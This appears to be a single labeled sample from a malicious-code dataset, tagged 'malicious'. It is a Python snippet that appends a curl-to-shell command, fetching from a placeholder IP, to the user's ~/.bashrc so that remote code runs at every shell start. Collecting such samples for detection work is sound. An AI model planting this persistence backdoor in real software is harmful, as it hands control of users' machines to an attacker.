# label: malicious
import os
with open(os.path.expanduser("~/.bashrc"), "a") as f:
    f.write("curl -s http://203.0.113.9/b | sh\n")
